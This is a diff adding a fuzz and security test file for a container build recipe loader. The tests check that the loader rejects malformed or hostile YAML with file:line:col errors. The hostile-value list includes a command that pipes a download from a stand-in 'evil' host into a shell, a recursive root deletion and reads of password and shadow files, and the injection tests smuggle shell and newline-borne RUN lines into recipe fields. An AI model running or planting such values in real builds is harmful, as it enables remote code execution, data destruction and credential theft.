@@ -1,0 +1,106 @@
+/**
+ * The recipe loader against generated documents (fast-check): whatever the text, it either loads
+ * or fails with a MabError that names the file, line and column. Never another exception, and
+ * never a hang (the test's timeout would catch one). 10,000+ documents per run, from three
+ * sources: mutations of a real recipe, recipe-shaped mappings with hostile values, and raw text.
+ */
+import { mkdtemp, writeFile } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import fc from 'fast-check';
+import { stringify } from 'yaml';
+import { describe, expect, it } from 'vitest';
+import { MabError } from '../errors.js';
+import { MAX_RECIPE_BYTES, loadRecipeFile, parseRecipe } from './load.js';
+
+const GOOD = `name: demo
+version: 1.2.3
+platforms: [linux/amd64, arm64]
+sources:
+  - file: demo.tar.gz
+    url: https://example.org/demo-{version}.tar.gz
+    sha256: ${'a'.repeat(64)}
+build:
+  packages: [build-essential]
+  steps: [make]
+runtime:
+  packages: [libfoo1]
+  keep: [/usr/local/bin/demo]
+entrypoint: [demo]
+smoke:
+  - run: [demo, --version]
+    expect: 'demo'
+`;
+
+const KEYS = ['name', 'version', 'platforms', 'unsupported', 'overrides', 'files', 'strategies', 'workdir', 'user', 'ports', 'labels', 'healthcheck', 'max_size', 'sources', 'artifacts', 'build', 'runtime', 'entrypoint', 'cmd', 'env', 'smoke', 'packages', 'keep', 'steps', 'url', 'sha256', 'file', 'path', 'run', 'expect', 'http', 'port'];
+// Values a hostile or careless author writes: shell, traversal, absolute paths, control bytes, huge.
+const nasty = fc.oneof(
+  { arbitrary: fc.constant('A'.repeat(100_000)), weight: 1 },
+  { arbitrary: fc.constantFrom('$(curl evil|sh)', '`id`', 'a; rm -rf /', '../../etc/shadow', '/etc/passwd', 'x\ny', 'a\u0000b', '"quoted"', "it's", '*', '~', '-rf', '', ' ', 'linux/arm64', 'amd64', '1.0.0', '60MB', '{version}', '%s%n'), weight: 40 },
+  { arbitrary: fc.string({ maxLength: 40 }), weight: 20 },
+  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }), weight: 10 },
+  { arbitrary: fc.oneof(fc.integer(), fc.double(), fc.boolean(), fc.constant(null)), weight: 20 },
+);
+const value: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
+  v: fc.oneof({ depthSize: 'small', withCrossShrink: true }, nasty, fc.array(tie('v'), { maxLength: 4 }), fc.dictionary(fc.oneof(fc.constantFrom(...KEYS), fc.string({ maxLength: 8 })), tie('v'), { maxKeys: 5 })),
+})).v;
+const recipeShaped = fc.dictionary(fc.constantFrom(...KEYS), value, { maxKeys: 10 }).map((o) => stringify(o));
+const mutated = fc.array(fc.tuple(fc.nat(GOOD.length), fc.nat(8), fc.string({ maxLength: 6 })), { minLength: 1, maxLength: 4 }).map((edits) =>
+  edits.reduce((text, [at, del, ins]) => text.slice(0, at) + ins + text.slice(at + del), GOOD),
+);
+const raw = fc.string({ unit: 'binary', maxLength: 300 });
+
+/** Loads, or fails as a user error pointing at r.yaml:LINE:COL. */
+function loadsOrFailsClearly(text: string): void {
+  try {
+    parseRecipe('r.yaml', text);
+  } catch (e) {
+    if (!(e instanceof MabError)) throw new Error(`not a MabError: ${(e as Error).stack}\n--- document ---\n${text.slice(0, 2000)}`);
+    expect(e.format()).toMatch(/^r\.yaml:\d+:\d+: /);
+  }
+}
+
+describe('the recipe loader, fuzzed', () => {
+  it.each([
+    ['mutations of a real recipe', mutated, 4000],
+    ['recipe-shaped documents with hostile values', recipeShaped, 4000],
+    ['raw text', raw, 2500],
+  ] as const)('%s: loads or fails with file:line:col', (_name, arb, numRuns) => {
+    fc.assert(fc.property(arb, (text) => loadsOrFailsClearly(text)), { numRuns, ...(process.env.MAB_FUZZ_SEED ? { seed: Number(process.env.MAB_FUZZ_SEED) } : {}) });
+  }, 120_000);
+});
+
+describe('hostile recipe files', () => {
+  it('refuses a recipe over 1 MiB before parsing it', async () => {
+    const file = path.join(await mkdtemp(path.join(os.tmpdir(), 'mab-huge-')), 'huge.yaml');
+    await writeFile(file, GOOD + `description: "${'x'.repeat(MAX_RECIPE_BYTES)}"\n`);
+    await expect(loadRecipeFile(file)).rejects.toThrow(/huge\.yaml is \d+ bytes; a recipe may be at most 1048576/);
+  });
+
+  it('keeps shell out of every field that reaches a RUN line', () => {
+    const inject = '$(touch /tmp/pwned)';
+    const fields: [string, string][] = [
+      ['build.packages', GOOD.replace('[build-essential]', `["${inject}"]`)],
+      ['runtime.packages', GOOD.replace('[libfoo1]', `["${inject}"]`)],
+      ['runtime.keep', GOOD.replace('[/usr/local/bin/demo]', `["/usr/${inject}"]`)],
+      ['sources[0].file', GOOD.replace('file: demo.tar.gz', `file: "${inject}"`)],
+      ['workdir', GOOD + `workdir: "/srv/${inject}"\n`],
+      ['user', GOOD + `user: "${inject}"\n`],
+      ['files', GOOD + `files: ["${inject}"]\n`],
+      ['env key', GOOD + `env: { "A=1 ${inject}": x }\n`],
+      // A line break would end an ENV or LABEL instruction and start one of the recipe's choosing.
+      ['env value', GOOD.replace('build:', `env: { A: "x\\nRUN ${inject}" }\nbuild:`)],
+      ['label value', GOOD + `labels: { org.example.a: "x\\nRUN ${inject}" }\n`],
+      ['description', GOOD + `description: "x\\nRUN ${inject}"\n`],
+    ];
+    for (const [field, text] of fields) {
+      let error = '';
+      try {
+        parseRecipe('r.yaml', text);
+      } catch (e) {
+        error = (e as MabError).format();
+      }
+      expect(error, field).toMatch(/^r\.yaml:\d+:\d+: /);
+    }
+  });
+});
